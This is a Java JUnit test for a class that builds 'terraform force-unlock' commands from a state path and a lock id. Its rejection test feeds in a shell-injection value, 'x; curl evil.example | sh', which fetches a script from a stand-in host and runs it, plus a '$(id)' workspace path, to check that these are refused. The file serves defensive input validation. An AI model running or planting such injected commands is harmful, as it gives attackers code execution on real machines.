package io.statetrail.core.terraform;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class ForceUnlockCommandTest {

    static final String ID = "b51a95d4-a170-b341-6e8f-26b2b3112213";

    @Test
    void theCommandNamesTheLockIdAndTheWorkspaceOfAWorkspaceState() {
        assertEquals(Optional.of("terraform force-unlock " + ID), ForceUnlockCommand.of("acme-tfstate-prod/infra/terraform.tfstate", ID));
        assertEquals(Optional.of("TF_WORKSPACE=prod terraform force-unlock " + ID),
                ForceUnlockCommand.of("acme-tfstate-prod/env:/prod/app/terraform.tfstate", ID));
    }

    @Test
    void noCommandFromAnIdOrWorkspaceThatIsNotWhatTerraformWrites() {
        assertEquals(Optional.empty(), ForceUnlockCommand.of("b/k", "x; curl evil.example | sh"));
        assertEquals(Optional.empty(), ForceUnlockCommand.of("b/k", null));
        assertEquals(Optional.empty(), ForceUnlockCommand.of("b/k", ID + "\n"));
        assertEquals(Optional.of("terraform force-unlock " + ID), ForceUnlockCommand.of("b/env:/$(id)/k", ID));
    }
}
